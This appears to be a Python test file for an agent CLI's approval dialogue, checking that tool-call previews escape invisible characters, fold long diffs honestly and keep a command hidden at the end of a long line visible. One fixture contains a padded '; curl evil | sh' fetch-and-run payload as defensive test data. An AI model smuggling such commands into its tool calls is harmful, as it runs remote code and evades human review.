"""The preview of a tool call."""

import os
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from agent_cli.contracts.events import ToolCall
from agent_cli.contracts.timeline import Json
from agent_cli.repl.approval.call_rows import titled
from agent_cli.repl.approval.preview import BETWEEN, Row, changes_of, folded, values_of, write_rows
from agent_cli.repl.markdown.styles import cells
from agent_cli.terminal.writer import Style
from tests.fakes import returns, tool
from tests.tables import each_row


@each_row(
    ("given", "shown"),
    [
        (
            {"command": "a\nb\r", "background": True},
            ["$ a", "> b\\r", "background: true"],
        ),
        (
            {"path": "a.py", "edits": [{"old": "x\ny", "new": "z", "all": True}, "odd"]},
            ["path: a.py", "− x", "− y", "+ z", "all: true", '"odd"'],
        ),
        ({"path": "a\u202e.py", "content": "1\n2"}, ["path: a\\u202e.py", "+ 1", "+ 2"]),
        ({"text": "two\nlines", "n": [1]}, ["text:", "  │ two", "  │ lines", "n: [1]"]),
        ({"command": ["not", "text"]}, ['command: ["not", "text"]']),
        ("no object", ["input: no object"]),
    ],
)
def test_preview_shows_the_whole_input_and_escapes_invisible_characters(
    given: Json, shown: list[str]
) -> None:
    """Commands, changes and values; invisible characters appear as escapes."""
    assert [row.text for row in values_of(given)] == shown


def test_diff_uses_the_file_that_the_tool_says_it_writes() -> None:
    """The tool resolves the path (@, ~, symlinks); the dialogue does not guess."""
    Path("real.txt").write_text("one\n")
    call = ToolCall("t1", "write", {"path": "@link.txt", "content": "two\n"})
    write = tool("write", returns("done"), writes=lambda _given: [str(Path("real.txt").resolve())])
    several = tool("write", returns("done"), writes=lambda _given: ["a", "b"])

    shown = titled(call, [write])
    assert shown.target == "@link.txt"
    assert [row.text for row in shown.rows] == ["    1 − one", "    1 + two"]
    for tools in ([], [several]):
        assert titled(call, tools).rows[1] == Row("+ two", "added")


def test_input_that_its_tool_rejects_is_shown_as_given() -> None:
    """The tool may be gone or replaced since the call: an approval outlives the program."""
    strict = replace(
        tool("write", returns("done"), writes=lambda _given: ["a"]),
        parameters={"type": "object", "required": ["elsewhere"]},
    )

    assert titled(ToolCall("t1", "write", {"path": "a"}), [strict]).rows == (Row("path: a"),)


def test_folded_preview_counts_the_hidden_lines_and_keeps_the_end() -> None:
    """An attacker would hide a command at the end of a long script."""
    rows = [Row(f"line {number}") for number in range(100)]

    assert folded(rows, rows_max=100, columns=20) == tuple(rows)
    assert folded(rows, rows_max=8, columns=20) == (
        *rows[:4],
        Row("      … 93 more lines", "warning"),
        *rows[-3:],
    )


def test_preview_is_not_folded_to_save_only_a_row_or_two() -> None:
    """The note takes a row itself, and it used to hide the removed line of an edit."""
    rows = [Row(f"line {number}") for number in range(9)]

    assert folded(rows, rows_max=8, columns=20) == tuple(rows)


def test_long_line_is_cut_in_the_middle_to_fit_the_free_space() -> None:
    """Threat 8: `; curl … | sh` after 6,000 characters must be visible."""
    [row] = folded([Row("x" * 6_000 + "; curl evil | sh", "added")], rows_max=10, columns=40)

    assert len(row.text) == 400
    assert row.text.startswith("x" * 150)
    assert " … 6,016 characters … " in row.text
    assert row.text.endswith("; curl evil | sh")
    assert folded([Row("x" * 100)], rows_max=10, columns=40) == (Row("x" * 100),)
    assert folded([Row("x" * 300)], rows_max=1, columns=20) == (Row("x" * 10 + "…" + "x" * 9),)


def test_long_line_uses_the_rows_that_short_lines_leave_free() -> None:
    """No row is folded on a half-empty screen."""
    rows = [Row("$ a"), Row("y" * 1_000), Row("> b")]

    shown = folded(rows, rows_max=12, columns=40)

    assert [shown[0], shown[2]] == [rows[0], rows[2]]
    assert len(shown[1].text) == 10 * 40


@each_row("text", ["漢" * 100, "\t" * 50], ids=["wide", "tabs"])
def test_line_length_is_counted_in_screen_cells(text: str) -> None:
    """Wide characters take two cells, tabs up to four, and truncated rows fit."""
    assert folded([Row(text)], rows_max=5, columns=40) == (Row(text),)

    [row] = folded([Row(text)], rows_max=4, columns=40)

    assert 155 <= cells(row.text.expandtabs(4)) <= 160


def test_line_that_exactly_fills_a_row_takes_one_row() -> None:
    """Forty cells on forty columns are one row."""
    rows = (Row("x" * 40), Row("y" * 80))

    assert folded(rows, rows_max=3, columns=40) == rows


def test_rows_of_one_style_are_written_together_with_newlines_escaped() -> None:
    """Each write costs a frame; a newline in a name or a reason must not forge a row."""
    written: list[tuple[str, str]] = []

    class Lines:
        def aside(self, text: str, style: Style = "plain") -> None:
            written.append((text, style))

        notice = aside

    rows: Sequence[Row] = [Row("a"), Row("b"), Row("c", "added"), Row("d\nallow? y")]
    write_rows(rows, Lines())

    assert written == [("a\nb", "plain"), ("c", "added"), ("d\\nallow? y", "plain")]


def test_folded_change_counts_changes_and_places() -> None:
    """The reader learns how much of the change is not on the screen."""
    place = [Row("  1 − a", "removed"), Row("  1 + b", "added"), Row("  2   c")]
    change = [*place, BETWEEN] * 4

    assert folded(change, rows_max=8, columns=40)[3] == Row(
        "      … 2 more changes in 2 places", "warning"
    )


def test_folded_change_shows_no_added_line_without_the_removed_one_before_it() -> None:
    """Neither before nor after the note, and no mark of a gap beside the note."""
    pair = (Row("− old", "removed"), Row("+ new", "added"))
    rows = [row for _ in range(9) for row in (*pair, Row("same"), Row("same"), BETWEEN)][:-1]

    for rows_max in range(6, 40):
        shown = folded(rows, rows_max=rows_max, columns=40)
        added = [at for at, row in enumerate(shown) if row == pair[1]]
        assert all(shown[at - 1] == pair[0] for at in added)
        assert shown[-4:] == (*pair, Row("same"), Row("same"))
        assert len(shown) <= rows_max + 2


@each_row("rows_max", [3, 4, 5, 6, 7])
def test_small_change_is_shown_before_the_lines_around_it(rows_max: int) -> None:
    """On a low terminal the only changed line was hidden, and three equal ones were shown."""
    change = (Row("− old", "removed"), Row("+ new", "added"))
    around = [Row("same")] * 3

    assert folded([*around, *change, *around], rows_max=rows_max, columns=40) == change


def test_change_that_does_not_fit_a_low_terminal_shows_its_first_and_its_last_line() -> None:
    """Title, change and all answers share 15 rows."""
    gone = [Row(f"− {number}", "removed") for number in range(30)]
    come = [Row(f"+ {number}", "added") for number in range(30)]

    shown = folded([Row("same"), *gone, *come, Row("same")], rows_max=3, columns=40)

    assert shown == (gone[0], Row("      … 58 more lines", "warning"), come[-1])


def test_folded_change_shows_no_lines_that_lead_to_a_hidden_change() -> None:
    """They would stand above the note without the change that they explain."""
    place = [Row("before"), Row("before"), Row("− old", "removed"), Row("behind"), BETWEEN]
    rows = (place * 9)[:-1]

    for rows_max in range(6, 40):
        shown = folded(rows, rows_max=rows_max, columns=40)
        note = next((at for at, row in enumerate(shown) if "more" in row.text), len(shown))
        assert shown
        assert note == 0 or shown[note - 1] in (place[2], place[3]), rows_max


def test_folded_preview_of_one_long_change_counts_lines() -> None:
    """A new file is one change: "1 more change" hid how much of it is not shown."""
    rows = [Row(f"{n:>5} + line", "added") for n in range(60)]

    shown = folded(rows, rows_max=9, columns=40)

    assert shown[5] == Row("      … 52 more lines", "warning")


FILE = "one\ntwo\nthree\nfour\nfive\nsix\nseven\n"


def edited(*edits: Json, path: str = "a.txt") -> list[str]:
    """Return the rows shown for *edits* to the file in the working directory."""
    return [row.text for row in changes_of({"path": path, "edits": [*edits]}, Path(path))]


def written(content: str, path: str = "a.txt") -> list[str]:
    """Return the rows shown for *content* replacing the file's."""
    return [row.text for row in changes_of({"path": path, "content": content}, Path(path))]


def test_change_is_shown_with_line_numbers_and_context_lines() -> None:
    """Whole lines, even if the model quotes a part of one; equal lines are not repeated."""
    Path("a.txt").write_text(FILE)

    assert changes_of(
        {"path": "a.txt", "edits": [{"old": "three\nfo", "new": "three\nnew\nFO"}]}, Path("a.txt")
    ) == [
        Row("path: a.txt"),
        Row("    2   two", gutter=6),
        Row("    3   three", gutter=6),
        Row("    4 − four", "removed", gutter=6),
        Row("    4 + new", "added", gutter=6),
        Row("    5 + FOur", "added", gutter=6),
        Row("    6   five", gutter=6),
        Row("    7   six", gutter=6),
    ]


def test_blank_lines_at_the_ends_of_the_context_are_left_out() -> None:
    """They take rows and say nothing; one between other lines stays."""
    Path("a.txt").write_text("\n\nb\n\nc\n\nd\n\n\ne\n")

    rows = edited({"old": "c", "new": "C"}, {"old": "d", "new": "D"})

    assert rows[1:] == [
        *("    3   b", "    4   ", "    5 − c", "    5 + C"),
        *("    6   ", "    7 − d", "    7 + D"),
    ]


def test_successive_edits_are_shown_as_one_combined_change() -> None:
    """The second edit applies to the first one's result; both ends of the file are covered."""
    Path("a.txt").write_text("one\ntwo")

    assert edited({"old": "one", "new": "1\n1"}, {"old": "1\ntwo", "new": "2"}) == [
        "path: a.txt",
        "    1 − one",
        "    2 − two",
        "    1 + 1",
        "    2 + 2",
    ]


def test_edit_of_all_occurrences_shows_each_changed_place() -> None:
    """A mark separates two places that are far apart."""
    Path("a.txt").write_text(f"0\n{FILE}0\n")

    assert edited({"old": "0\n", "new": "9\n", "all": True}) == [
        "path: a.txt",
        "    1 − 0",
        "    1 + 9",
        "    2   one",
        "    3   two",
        "      ⋮",
        "    7   six",
        "    8   seven",
        "    9 − 0",
        "    9 + 9",
    ]


@pytest.mark.parametrize(
    "edit",
    [
        {"old": "nowhere", "new": "x"},
        {"old": "o", "new": "x"},
        {"old": "", "new": "x", "all": True},
        {"old": "one", "new": "one"},
        {"old": "one", "new": "1", "regex": True},
        {"old": 1, "new": "x"},
        "odd",
    ],
)
def test_edit_with_an_uncertain_result_has_no_diff(edit: Json) -> None:
    """The input itself is shown instead."""
    Path("a.txt").write_text(FILE)

    assert edited(edit) == []


def test_diff_reads_only_plain_text_files() -> None:
    """Reading a pipe would block forever; folders and other encodings have no text to compare."""
    os.mkfifo("pipe")
    Path("latin").write_bytes(b"one \xe9")

    for path in ("pipe", "latin", "."):
        assert edited({"old": "one", "new": "1"}, path=path) == written("x", path) == []
    assert edited({"old": "one", "new": "1"}, path="missing") == []
    assert changes_of({"command": "ls"}, Path("a.txt")) == []
    assert changes_of("no object", Path("a.txt")) == []


def test_invisible_characters_in_a_file_are_shown_as_escapes() -> None:
    """The approved text is the one written."""
    Path("a.txt").write_text("one\u202e\n")

    assert "    1 − one\\u202e" in edited({"old": "one", "new": "1"})


def test_blank_at_the_end_of_a_name_is_shown_as_an_escape() -> None:
    """Threat 8: `app.py` and `app.py ` are two files."""
    assert written("x\n", path="a b ")[0] == "path: a b\\x20 (new file)"
    assert written("x\n", path=" a")[0] == "path: \\x20a (new file)"


def test_replaced_file_is_shown_as_a_diff() -> None:
    """Not the whole file: one changed line among a thousand would be overlooked."""
    Path("a.txt").write_text(FILE)

    assert written(FILE.replace("four", "4")) == [
        "path: a.txt",
        "    2   two",
        "    3   three",
        "    4 − four",
        "    4 + 4",
        "    5   five",
        "    6   six",
    ]
    assert written(FILE) == ["path: a.txt", "nothing changes"]
    assert written("") == ["path: a.txt", *[f"{at:>5} − {w}" for at, w in numbered(FILE)]]


def test_new_file_is_shown_as_all_additions() -> None:
    """The file is also marked as new."""
    assert written("one\ntwo\n") == ["path: a.txt (new file)", "    1 + one", "    2 + two"]
    assert written("") == ["path: a.txt (new file)", "nothing changes"]


def test_crlf_and_final_newline_add_no_noise_to_the_diff() -> None:
    """The tool keeps a file's CRLF; a final newline is mentioned, as no line shows it."""
    Path("a.txt").write_bytes(b"one\r\ntwo\r\n")
    Path("b.txt").write_text("one\ntwo\n")

    assert written("one\n2\n") == ["path: a.txt", "    1   one", "    2 − two", "    2 + 2"]
    assert written("one\ntwo", "b.txt") == ["path: b.txt", "a newline at the end goes"]


def test_large_file_with_no_common_lines_is_compared_quickly() -> None:
    """Matching tens of thousands of lines would take minutes."""
    Path("a.txt").write_text("".join(f"old {number % 7}\n" for number in range(20_000)))

    rows = written("".join(f"new {number % 7}\n" for number in range(20_000)))

    assert (len(rows), rows[1], rows[-1]) == (40_001, "    1 − old 0", "20000 + new 0")


def numbered(text: str) -> list[tuple[int, str]]:
    return list(enumerate(text.splitlines(), 1))


def test_changed_words_of_a_changed_line_are_marked() -> None:
    """Only where lines were changed one by one, and most of a line is the same."""
    Path("a.txt").write_text("return a - b  # of two\nold\n")
    edit: Json = {"old": "a - b  # of two\nold", "new": "a + b  # of all\nfresh things"}
    rows = changes_of({"path": "a.txt", "edits": [edit]}, Path("a.txt"))

    marked = {row.text[8:]: [row.text[start:end] for start, end in row.marks] for row in rows[1:]}

    assert marked == {
        "return a - b  # of two": ["-", "two"],
        "old": [],
        "return a + b  # of all": ["+", "all"],
        "fresh things": [],
    }


@pytest.mark.parametrize("filler", ["abc(1, 2); ", "漢字\t"], ids=["narrow", "wide and tabs"])
def test_cut_line_shows_what_changes_in_it(filler: str) -> None:
    """In a minified file or a paragraph in one line: the change was left out as the middle."""
    lead, rest = filler * 900, filler * 700
    Path("a.js").write_text(f"{lead}secret(1){rest}")
    edits: Json = [{"old": "secret(1)", "new": "secret(22)"}]
    rows = changes_of({"path": "a.js", "edits": edits}, Path("a.js"))

    gone, come = folded(rows[1:], rows_max=4, columns=60)

    assert [gone.text[:9], come.text[:9]] == ["    1 − …", "    1 + …"]
    assert ("secret(1)" in gone.text, "secret(22)" in come.text) == (True, True)
    assert [row.text[start:end] for row in (gone, come) for start, end in row.marks] == ["1", "22"]
    assert [110 < cells(row.text) <= 120 for row in (gone, come)] == [True, True]
    assert gone.text.endswith("…")
    assert folded(rows[1:], rows_max=20, columns=60) == folded(rows[1:], rows_max=8, columns=60)


def test_cut_line_shows_both_ends_of_a_long_change() -> None:
    """Threat 8, in a line that was there: a command behind thousands of new characters."""
    Path("a.sh").write_text(f"{'true; ' * 900}")
    edits: Json = [{"old": "true; " * 900, "new": f"{'true; ' * 880}A{'x' * 900}Z{'true; ' * 20}"}]
    rows = changes_of({"path": "a.sh", "edits": edits}, Path("a.sh"))

    shown = folded(rows[1:], rows_max=6, columns=60)[-1].text

    assert " + …Ax" in shown
    assert "characters" in shown
    assert shown.endswith("xZ…")
